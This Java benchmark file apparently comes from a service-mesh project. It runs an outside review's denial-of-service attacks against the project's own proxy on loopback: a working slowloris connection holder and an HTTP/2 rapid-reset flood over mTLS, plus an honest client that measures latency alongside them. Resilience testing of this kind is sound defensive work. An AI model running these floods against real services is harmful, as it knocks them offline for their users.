package dev.trellis.benchmarks;

import dev.trellis.core.identity.WorkloadIdentity;
import dev.trellis.testing.RawH2Client;
import dev.trellis.tls.context.Credentials;
import dev.trellis.tls.context.CredentialsStore;
import dev.trellis.tls.context.MeshSslContexts;
import dev.trellis.tls.pki.Pem;
import dev.trellis.tls.pki.TrustAnchors;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.ProxySelector;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.TimeUnit;

/**
 * The attacks of the outside review, and an honest client to run beside them, for
 * {@code bench/attacks.sh}. Every mode targets the address it is given (loopback in the
 * script), runs for a bounded time, and prints one result line.
 *
 * <pre>
 * honest URL SECONDS [PROXY_HOST:PORT]          GET every 50 ms; prints ok/total and the worst latency
 * slowloris HOST:PORT CONNECTIONS SECONDS PREFIX keeps CONNECTIONS open, each sending PREFIX then a byte every 2 s, reopening closed ones
 * rapid-reset HOST:PORT SECONDS PEER_HOST TRUST_ANCHOR CHAIN KEY SPIFFE_ID TARGET_PORT
 *                                                 over mTLS as SPIFFE_ID: 20,000 HEADERS+RST_STREAM per connection, reconnecting
 * </pre>
 */
public final class Attacks {

    private Attacks() {}

    public static void main(String[] args) throws Exception {
        switch (args[0]) {
            case "honest" -> honest(URI.create(args[1]), Duration.ofSeconds(Long.parseLong(args[2])), args.length > 3 ? Optional.of(args[3]) : Optional.empty());
            case "slowloris" -> slowloris(address(args[1]), Integer.parseInt(args[2]), Duration.ofSeconds(Long.parseLong(args[3])),
                    args[4].replace("\\r", "\r").replace("\\n", "\n"));
            case "rapid-reset" -> rapidReset(address(args[1]), Duration.ofSeconds(Long.parseLong(args[2])), args[3], Path.of(args[4]), Path.of(args[5]),
                    Path.of(args[6]), WorkloadIdentity.parseSpiffeId(args[7]), args[8]);
            default -> throw new IllegalArgumentException("attacks: unknown mode " + args[0]);
        }
    }

    private static InetSocketAddress address(String hostPort) {
        int colon = hostPort.lastIndexOf(':');
        return new InetSocketAddress(hostPort.substring(0, colon), Integer.parseInt(hostPort.substring(colon + 1)));
    }

    private static void honest(URI url, Duration duration, Optional<String> proxy) throws Exception {
        HttpClient.Builder builder = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).connectTimeout(Duration.ofSeconds(2));
        proxy.ifPresent(p -> builder.proxy(ProxySelector.of(address(p))));
        HttpClient http = builder.build();
        long until = System.nanoTime() + duration.toNanos();
        int ok = 0;
        int total = 0;
        long worst = 0;
        List<Long> latencies = new ArrayList<>();
        while (System.nanoTime() < until) {
            long started = System.nanoTime();
            total++;
            try {
                HttpResponse<Void> response = http.send(HttpRequest.newBuilder(url).timeout(Duration.ofSeconds(5)).build(), HttpResponse.BodyHandlers.discarding());
                ok += response.statusCode() == 200 ? 1 : 0;
            } catch (IOException e) {
                // counted as a failure
            }
            long took = System.nanoTime() - started;
            latencies.add(took);
            worst = Math.max(worst, took);
            Thread.sleep(50);
        }
        latencies.sort(Long::compare);
        long p99 = latencies.isEmpty() ? 0 : latencies.get(Math.min(latencies.size() - 1, (int) Math.ceil(latencies.size() * 0.99) - 1));
        System.out.printf("honest: %d/%d ok (%.1f%%), p99 %.1f ms, worst %.1f ms%n", ok, total, 100.0 * ok / Math.max(1, total), p99 / 1e6, worst / 1e6);
    }

    private static void slowloris(InetSocketAddress target, int connections, Duration duration, String prefix) throws Exception {
        byte[] opening = prefix.getBytes(StandardCharsets.ISO_8859_1);
        List<Socket> open = new ArrayList<>();
        long until = System.nanoTime() + duration.toNanos();
        long opened = 0;
        long cut = 0;
        int maxHeld = 0;
        while (System.nanoTime() < until) {
            while (open.size() < connections) {
                try {
                    Socket socket = new Socket();
                    socket.connect(target, 1000);
                    socket.getOutputStream().write(opening);
                    open.add(socket);
                    opened++;
                } catch (IOException refused) {
                    break;
                }
            }
            Thread.sleep(2000);
            int held = 0;
            for (var it = open.iterator(); it.hasNext(); ) {
                Socket socket = it.next();
                try {
                    socket.getOutputStream().write('x');
                    socket.setSoTimeout(1);
                    if (socket.getInputStream().read() == -1) {
                        throw new IOException("closed");
                    }
                    held++;
                } catch (java.net.SocketTimeoutException stillOpen) {
                    held++;
                } catch (IOException closed) {
                    cut++;
                    socket.close();
                    it.remove();
                }
            }
            maxHeld = Math.max(maxHeld, held);
        }
        for (Socket socket : open) {
            socket.close();
        }
        System.out.printf("slowloris: %d opened, %d cut by the server, at most %d held open at once%n", opened, cut, maxHeld);
    }

    private static void rapidReset(InetSocketAddress target, Duration duration, String peerHost, Path anchor, Path chain, Path key,
                                   WorkloadIdentity identity, String targetPort) throws Exception {
        CredentialsStore store = new CredentialsStore(identity, TrustAnchors.read(anchor), Clock.systemUTC());
        store.install(new Credentials(identity, Pem.readPrivateKey(key), Pem.readCertificates(chain)));
        var tls = MeshSslContexts.forClient(store.trustAnchors(), Optional.of(store), List.of("h2"), Clock.systemUTC());
        long until = System.nanoTime() + duration.toNanos();
        int connections = 0;
        int cutOff = 0;
        while (System.nanoTime() < until) {
            try (RawH2Client client = new RawH2Client(target, tls, peerHost)) {
                connections++;
                client.rapidReset(20_000, RawH2Client.get("bench", "/flood", "trellis-target-port", targetPort));
                try {
                    client.closed().get(10, TimeUnit.SECONDS);
                    cutOff++;
                } catch (java.util.concurrent.TimeoutException stillOpen) {
                    // the server kept it
                }
            } catch (Exception refused) {
                Thread.sleep(100);
            }
        }
        System.out.printf("rapid-reset: %d connections of 20,000 reset streams each, %d cut off by the server%n", connections, cutOff);
    }
}
